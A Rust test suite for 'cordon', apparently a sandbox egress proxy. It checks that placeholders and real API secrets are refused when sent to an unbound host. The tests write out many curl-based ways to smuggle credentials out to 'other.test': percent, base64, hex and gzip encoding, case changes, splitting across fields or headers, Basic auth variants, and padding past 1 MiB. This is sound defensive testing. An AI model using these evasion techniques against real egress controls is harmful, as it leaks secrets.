//! Placeholders and secrets never leave for a destination they are not bound to, however they are encoded:
//! each way a sandbox could hide one, tried through the `cordon` binary with curl, to `other.test` (allowed,
//! but no credential is bound there).

use std::io::Write;

use base64::Engine;

use crate::rigs::secrets::*;

/// curl `args` through cordon; (status, x-cordon-reason).
fn status(rig: &Rig, args: &[&str]) -> (String, String) {
    let mut c = rig.curl();
    c.args(args);
    let r = crate::rigs::curl::run(c);
    (r.status.to_string(), r.reason().trim().to_owned())
}

fn pct(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_placeholder_hidden_any_way_never_leaves_for_an_unbound_host() {
    let mut rig = Rig::start().await;
    let ph = rig.placeholder("apikey");
    let other = rig.url("other.test", "/");
    let gz = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(format!("{{\"k\": \"{ph}\"}}").as_bytes()).unwrap();
        e.finish().unwrap()
    };
    let gz_file = rig.dir.path().join("body.gz");
    std::fs::write(&gz_file, &gz).unwrap();
    let big_file = rig.dir.path().join("big.txt");
    let mut big = vec![b'x'; (1 << 20) + 4096];
    big.extend_from_slice(ph.as_bytes());
    std::fs::write(&big_file, &big).unwrap();
    let part_file = rig.dir.path().join("part.txt");
    std::fs::write(&part_file, b64(&format!("key={ph}"))).unwrap();
    // Split inside the prefix, so neither half looks like a placeholder.
    let (a, b) = ph.split_at(6);
    let cases: Vec<(&str, Vec<String>)> = vec![
        (
            "percent-encoded in the body",
            vec!["--data-binary".into(), format!("k={}", pct(&ph))],
        ),
        (
            "double percent-encoded in the body",
            vec!["--data-binary".into(), format!("k={}", pct(&ph).replace('%', "%25"))],
        ),
        ("percent-encoded in the query", vec![format!("{other}?k={}", pct(&ph))]),
        (
            "double percent-encoded in the query",
            vec![format!("{other}?k={}", pct(&ph).replace('%', "%25"))],
        ),
        ("percent-encoded in the path", vec![format!("{other}x/{}", pct(&ph))]),
        (
            "double percent-encoded in the path",
            vec![format!("{other}x/{}", pct(&ph).replace('%', "%25"))],
        ),
        (
            "JSON-escaped in the body",
            vec![
                "--data-binary".into(),
                format!("{{\"k\": \"{}\"}}", ph.replace('-', "\\u002d")),
            ],
        ),
        ("base64 in the body", vec!["--data-binary".into(), b64(&ph)]),
        (
            "base64 in a multipart part",
            vec!["-F".into(), format!("file=@{}", part_file.display())],
        ),
        (
            "inside a gzip body",
            vec![
                "-H".into(),
                "Content-Encoding: gzip".into(),
                "--data-binary".into(),
                format!("@{}", gz_file.display()),
            ],
        ),
        (
            "upper-cased",
            vec!["-H".into(), format!("X-Key: {}", ph.to_uppercase())],
        ),
        (
            "split over two form fields",
            vec!["--data-binary".into(), format!("a={a}&b={b}")],
        ),
        (
            "split over two headers",
            vec!["-H".into(), format!("X-A: {a}"), "-H".into(), format!("X-B: {b}")],
        ),
        (
            "in Basic authorization",
            vec!["-H".into(), format!("Authorization: Basic {}", b64(&format!("u:{ph}")))],
        ),
        (
            "in BASIC authorization",
            vec!["-H".into(), format!("Authorization: BASIC {}", b64(&format!("u:{ph}")))],
        ),
        (
            "in bAsIc authorization",
            vec!["-H".into(), format!("Authorization: bAsIc {}", b64(&format!("u:{ph}")))],
        ),
        (
            "in Basic<TAB> authorization",
            vec![
                "-H".into(),
                format!("Authorization: Basic\t{}", b64(&format!("u:{ph}"))),
            ],
        ),
        (
            "past the first MiB of a body",
            vec!["--data-binary".into(), format!("@{}", big_file.display())],
        ),
    ];
    let mut let_through = Vec::new();
    for (what, args) in &cases {
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        if !args.iter().any(|a| a.starts_with("https://")) {
            args.push(&other);
        }
        let (code, reason) = status(&rig, &args);
        if (code.as_str(), reason.as_str()) != ("403", "credential_exfiltration") {
            let_through.push(format!("{what}: {code} {reason}"));
        }
    }
    assert!(let_through.is_empty(), "not refused: {let_through:#?}");
    assert!(
        !rig.leaks.saw(&ph) && !rig.leaks.saw(&ph.to_uppercase()),
        "a placeholder reached the upstream"
    );
    assert!(!rig.leaks.saw(APIKEY), "a secret reached the upstream");
    // As issued, to its own host, in a place it may go: swapped as always.
    let (code, _) = status(&rig, &["-H", &format!("X-Key: {ph}"), &rig.url("leaky.test", "/echo")]);
    assert_eq!(code, "200");
    assert!(rig.leaks.saw(APIKEY));
    let logs = rig.output();
    assert_eq!(
        logs.matches("\"reason\":\"credential_exfiltration\"").count(),
        cases.len(),
        "{logs}"
    );
    for s in spellings(APIKEY) {
        assert!(!logs.contains(&s), "the secret is in cordon's output");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_real_secret_goes_nowhere_but_its_binding() {
    let mut rig = Rig::start().await;
    let other = rig.url("other.test", "/");
    // Form-encoded as a client writes them (`+` would read as a space).
    let (a, b) = BEARER.split_at(10);
    let form = |s: &str| form_urlencoded::byte_serialize(s.as_bytes()).collect::<String>();
    let (a, b) = (form(a), form(b));
    let mut let_through = Vec::new();
    for (what, args) in [
        ("in a header", vec!["-H".to_string(), format!("X-Leak: {BEARER}")]),
        (
            "percent-encoded in the query",
            vec![format!("{other}?t={}", pct(BEARER))],
        ),
        ("base64 in the body", vec!["--data-binary".into(), b64(BEARER)]),
        ("hex in the body", vec!["--data-binary".into(), hex::encode(BEARER)]),
        (
            "split over two form fields",
            vec!["--data-binary".into(), format!("a={a}&b={b}")],
        ),
    ] {
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        if !args.iter().any(|x| x.starts_with("https://")) {
            args.push(&other);
        }
        let (code, reason) = status(&rig, &args);
        if (code.as_str(), reason.as_str()) != ("403", "secret_exfiltration") {
            let_through.push(format!("{what}: {code} {reason}"));
        }
    }
    assert!(let_through.is_empty(), "not refused: {let_through:#?}");
    assert!(
        !rig.leaks.saw(BEARER) && !rig.leaks.saw(&b64(BEARER)),
        "the secret reached the unbound host"
    );
    // To its binding it may go (cordon sets it there anyway).
    let (code, _) = status(&rig, &["-H", &format!("X-Own: {BEARER}"), &rig.url("leaky.test", "/")]);
    assert_eq!(code, "200");
    let logs = rig.output();
    assert!(logs.contains("\"error\":\"the secret of credential bearer\""), "{logs}");
    for s in spellings(BEARER) {
        assert!(!logs.contains(&s), "the secret is in cordon's output");
    }
}
